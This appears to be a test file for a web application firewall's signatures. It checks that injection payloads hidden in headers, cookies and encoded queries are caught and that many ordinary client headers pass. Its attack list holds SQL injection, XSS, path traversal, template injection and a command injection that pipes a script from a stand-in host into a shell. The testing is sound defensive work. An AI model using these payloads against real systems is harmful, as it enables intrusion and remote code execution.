/** The starter signatures stop an attack in each position of a request head, and let pass what clients send there. */
import { describe, expect, test } from 'vitest';
import type { EdgeRequest } from '../../src/engine/evaluator/request.ts';
import { inspectRequest } from '../support/starter.ts';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

function asked(headers: Readonly<Record<string, string>>, target = '/'): EdgeRequest {
  return {
    ...{ scheme: 'https', method: 'GET', host: 'shop.example.com', target, ip: '198.51.100.4' },
    headers: { host: 'shop.example.com', 'user-agent': BROWSER, accept: '*/*', ...headers },
  };
}

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

/** Each ASCII character as JavaScript and JSON escape it. */
function escaped(text: string): string {
  return [...text].map((one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
}

const ATTACKS = [
  "1' union select password from users-- -",
  '<svg onload=alert(document.domain)>',
  '../../../../etc/passwd',
  '{{7*7}}{{self.__init__.__globals__}}',
  '127.0.0.1;curl https://evil.test/x|sh',
];

/** Names of headers that applications log, store or put into queries. */
const NAMES = ['x-tenant', 'x-forwarded-for', 'x-api-version', 'referer', 'accept-language', 'x-request-id'];

describe.each(ATTACKS)('%s', (attack) => {
  test.each(NAMES)('in the header %s', (name) => {
    expect(inspectRequest(asked({ [name]: attack }), 1).score).toBeGreaterThanOrEqual(5);
  });

  test('in a cookie', () => {
    expect(inspectRequest(asked({ cookie: `a=1; theme=${attack}; b=2` }), 1).score).toBeGreaterThanOrEqual(5);
  });

  test.each([
    ['in a query without a name', encodeURIComponent(attack)],
    ['in a query that is no list of pairs', encodeURI(attack)],
    ['in Base64 in a query', `q=${encodeURIComponent(base64(attack))}`],
    ['in the Base64 of URLs in a query', `q=${Buffer.from(attack).toString('base64url')}`],
    ['in escapes of JavaScript in a query', `q=${encodeURIComponent(escaped(attack))}`],
  ])('%s', (_, query) => {
    expect(inspectRequest(asked({}, `/?${query}`), 1).score).toBeGreaterThanOrEqual(5);
  });

  test.each([
    ['Base64', base64(attack)],
    ['escapes', escaped(attack)],
  ])('as %s in a cookie and in a header', (_, text) => {
    expect(inspectRequest(asked({ cookie: `theme=${text}` }), 1).score).toBeGreaterThanOrEqual(5);
    expect(inspectRequest(asked({ 'x-tenant': text }), 1).score).toBeGreaterThanOrEqual(5);
  });
});

test('markup with `=` and `&` in a query or form that a page writes out whole', () => {
  const markup = '<x onmousedown=alert(1)>click&now=1';
  expect(inspectRequest(asked({}, `/?${encodeURI(markup)}`), 1).score).toBeGreaterThanOrEqual(5);
  const form = {
    ...asked({ 'content-type': 'application/x-www-form-urlencoded' }),
    ...{ method: 'POST', body: markup },
  };
  expect(inspectRequest(form, 1).score).toBeGreaterThanOrEqual(5);
});

test('an exclusion of an argument covers its further readings', () => {
  const { matches } = inspectRequest(asked({}, `/?q=${encodeURIComponent(base64(ATTACKS[1]!))}`), 1);
  expect(matches[0]).toMatchObject({ variable: 'ARGS:q', value: expect.stringContaining('onload') });
});

/** What browsers, applications, proxies and monitoring send, by name. */
const HEADERS: readonly (readonly [string, string])[] = [
  ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
  ['accept', 'application/signed-exchange;v=b3;q=0.7,application/vnd.github+json; version=3'],
  ['accept', 'multipart/mixed;deferSpec=20220824,application/graphql-response+json'],
  ['accept-encoding', 'gzip, deflate, br, zstd'],
  ['accept-language', 'de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7'],
  [
    'authorization',
    'Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMiLCJzY29wZSI6InJlYWQgd3JpdGUifQ.c2lnbmF0dXJl',
  ],
  ['authorization', 'Basic YWxpY2U6cyYzY3JldDsoJ3g9Iik='],
  [
    'authorization',
    'Digest username="Mufasa", realm="http-auth@example.org", uri="/dir/index.html", algorithm=SHA-256, nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v", nc=00000001, cnonce="f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ", qop=auth, response="753927fa0e85d155564e2e272a28d180", opaque="FQhe/qaU925kfnzjCev0ciny7QMkPqMAFRtzCUYo5tdS"',
  ],
  [
    'authorization',
    'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7',
  ],
  [
    'authorization',
    'OAuth oauth_consumer_key="xvz1evFS4wEEPTGEFPHBog", oauth_nonce="kYjzVBB8Y0ZFabxSWbWovY3uYSQ2pTgmZeNu2VS4cg", oauth_signature="tnnArxj06cWHq44gCs1OSKk%2FjLY%3D", oauth_version="1.0"',
  ],
  ['baggage', 'userId=alice,serverNode=DF%2028,isProduction=false;property1;property2=propertyValue'],
  ['cache-control', 'no-cache, max-age=0'],
  ['cf-visitor', '{"scheme":"https"}'],
  ['cf-connecting-ip', '2001:db8::1'],
  ['content-disposition', 'attachment; filename="Angebot (2).pdf"; filename*=UTF-8\'\'Angebot%20%282%29.pdf'],
  [
    'cookie',
    '_ga=GA1.2.1234567890.1700000000; _fbp=fb.1.1700000000000.1234567890; theme="dark mode"; consent={"stats":true,"ads":false}',
  ],
  [
    'cookie',
    'OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jan+01+2024+10:00:00+GMT+0100&groups=C0001:1,C0002:0; euconsent-v2=CPXxRfAPXxRfAAfKABENB-CgAAAAAAAAAAYgAAAAAAAA',
  ],
  [
    'cookie',
    'connect.sid=s%3AjWmqKQkLh2gYd9P3.7Vp%2BqNn5; laravel_session=eyJpdiI6Ik1hQ0E9PSIsInZhbHVlIjoiVXJ6IiwibWFjIjoiYWJjIn0%3D; ASP.NET_SessionId=lit1py55t21z5v55vlm25s55',
  ],
  ['dpop', 'eyJ0eXAiOiJkcG9wK2p3dCIsImFsZyI6IkVTMjU2In0.eyJqdGkiOiItQndDM0VTYzZhY2MybFRjIn0.MEUCIQ'],
  [
    'forwarded',
    'for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43, for=192.0.2.60;host=example.com',
  ],
  ['from', 'Max Mustermann <max@example.com>'],
  ['hx-current-url', 'https://shop.example.com/cart?items[0]=1&note=it%27s%20fine'],
  ['if-modified-since', 'Tue, 15 Nov 1994 12:45:26 GMT'],
  ['if-none-match', 'W/"67ab43", "54ed21", W/"f4-1a2b3c4d5e"'],
  [
    'link',
    '<https://example.com/page/2>; rel="next"; title="chapter 2", </style.css>; rel=preload; as=style',
  ],
  [
    'next-router-state-tree',
    '%5B%22%22%2C%7B%22children%22%3A%5B%22(shop)%22%2C%7B%22children%22%3A%5B%22__PAGE__%22%2C%7B%7D%5D%7D%5D%7D%2Cnull%2Cnull%2Ctrue%5D',
  ],
  ['origin', 'https://shop.example.com'],
  ['prefer', 'respond-async, wait=100; odata.maxpagesize=50, handling=lenient'],
  ['priority', 'u=1, i'],
  ['range', 'bytes=0-1023'],
  [
    'referer',
    'https://www.google.com/search?q=how+to+select+a+chair+from+the+catalog&oq=it%27s&aqs=chrome..69i57j0i512l9.1j0j7',
  ],
  ['referer', 'https://shop.example.com/search?q=%22blue+jeans%22+(size+38)&sort=price|asc&page=2#top'],
  ['referer', 'android-app://com.google.android.gm/'],
  ['sec-ch-ua', '"Not)A;Brand";v="8", "Chromium";v="138", "Google Chrome";v="138"'],
  ['sec-ch-ua-full-version-list', '" Not A;Brand";v="99.0.0.0", "Chromium";v="98.0.4750.0"'],
  ['sec-ch-ua-platform', '"Windows"'],
  ['sec-websocket-extensions', 'permessage-deflate; client_max_window_bits'],
  ['sec-websocket-protocol', 'graphql-transport-ws, v10.stomp'],
  ['sentry-trace', '12312012123120121231201212312012-1121201211212012-1'],
  [
    'signature-input',
    'sig1=("@method" "@authority" "@path" "content-digest");created=1618884473;keyid="test-key-rsa-pss"',
  ],
  [
    'signature',
    'sig1=:LjbtqUbfmvjj5C5kr1Ugj4PmLYvx9wVjZvD9GsTT4F7GrcQEdJzgI9qHxICagShLRiLMlAJjtq6N4CDfKtjvuJyE5qH7KT8UCMkSowOB4+ECxCmT8rtAmj:',
  ],
  ['content-digest', 'sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:'],
  ['soapaction', '"urn:schemas-upnp-org:service:ContentDirectory:1#Browse"'],
  ['te', 'trailers, deflate;q=0.5'],
  ['traceparent', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01'],
  ['tracestate', 'rojo=00f067aa0ba902b7,congo=t61rcWkgMzE,dd=s:2;o:rum;t.dm:-4'],
  ['upload-metadata', 'filename d29ybGRfZG9taW5hdGlvbl9wbGFuLnBkZg==,is_confidential'],
  [
    'user-agent',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/463.0.0.36.108;FBBV/594500000;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS]',
  ],
  ['user-agent', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'],
  ['user-agent', 'okhttp/4.12.0'],
  ['user-agent', 'Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)'],
  ['user-agent', 'kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9'],
  ['user-agent', 'git/2.39.2 (Apple Git-143)'],
  ['user-agent', 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro), MSOffice 12'],
  ['via', '1.1 vegur, 1.1 varnish (Varnish/6.0), 2.0 google'],
  ['x-amzn-trace-id', 'Root=1-67891233-abcdef012345678912345678;Parent=53995c3f42cd8ad8;Sampled=1'],
  ['x-client-data', 'CJC2yQEIorbJAQipncoBCKijygEIlKHLAQiFoM0B'],
  ['x-cloud-trace-context', '105445aa7843bc8bf206b12000100000/1;o=1'],
  ['x-csrf-token', 'i8XNjC4b8KVok4uw5RftR38Wgp2BFwql/abc+def=='],
  ['x-datadog-tags', '_dd.p.tid=640cfd8d00000000,_dd.p.dm=-0'],
  [
    'x-device-info',
    '{"os":"iOS","version":"17.5","model":"iPhone 15 (Pro)","locale":"en_US","carrier":"AT&T"}',
  ],
  ['x-filename', "L'été à Nîmes; photos (2024).zip"],
  ['x-filter', '(&(objectClass=person)(name=Smith))'.replaceAll('&', 'and ')],
  ['x-forwarded-for', '203.0.113.7, 10.0.0.12, 2001:db8::1'],
  ['x-forwarded-prefix', '/app/v2'],
  ['x-forwarded-uri', '/search?q=tables+and+chairs&filter=price>10'],
  ['x-goog-api-client', 'gl-node/20.9.0 grpc/1.9.12 gax/4.0.5 gccl/7.1.0'],
  ['x-hub-signature-256', 'sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17'],
  ['x-inertia-partial-data', 'users,filters,can'],
  ['x-kubernetes-pf-flowschema-uid', '8c5b2f1e-9a3d-4d5e-8f2a-1b2c3d4e5f6a'],
  ['x-ms-client-principal', 'eyJhdXRoX3R5cCI6ImFhZCIsImNsYWltcyI6W3sidHlwIjoibmFtZSIsInZhbCI6Ik1heCJ9XX0='],
  ['x-parse-installation-id', '3f6b2c8e-1234-4cde-9abc-0123456789ab'],
  ['x-requested-with', 'XMLHttpRequest'],
  ['x-scheme', 'https'],
  [
    'x-stripe-signature',
    't=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd,v0=6ffbb59b2300aae63f272406069a9788598b792a944a07aba816edb039989a39',
  ],
  ['x-user-context', '{"roles":["admin","editor"],"name":"O\'Brien","tenant":"Müller & Söhne <Berlin>"}'],
];

test.each(HEADERS)('%s: %s is no attack', (name, value) => {
  const request = asked({ [name]: Buffer.from(value).toString('latin1') });
  for (const paranoia of [1, 2]) {
    const { matches } = inspectRequest(request, paranoia);
    expect(matches.map(({ id, variable, value: part }) => ({ paranoia, id, variable, part }))).toEqual([]);
  }
});

test.each([
  [
    'Base64 of a picture',
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  ],
  [
    'Base64 of JSON',
    Buffer.from('{"page":2,"filter":{"name":"O\'Brien","tags":["a","b"]}}').toString('base64url'),
  ],
  [
    'Base64 of a letter',
    base64("Dear Sir or Madam,\n\nplease find attached (see below) the offer; it's valid for 30 days."),
  ],
  ['an identifier of hexadecimal digits', '507f1f77bcf86cd799439011507f1f77'],
  ['a word of letters', 'internationalisierung'],
  ['JSON with escapes of letters', '{"name":"M\\u00fcller","city":"K\\u00f6ln"}'],
  ['a path of Windows', 'C:\\users\\xaver\\documents\\u2024.txt'],
])('%s in a query and in a cookie is no attack', (_, value) => {
  for (const paranoia of [1, 2]) {
    expect(inspectRequest(asked({}, `/?q=${encodeURIComponent(value)}`), paranoia).matches).toEqual([]);
    expect(inspectRequest(asked({ cookie: `c=${encodeURIComponent(value)}` }), paranoia).matches).toEqual([]);
  }
});
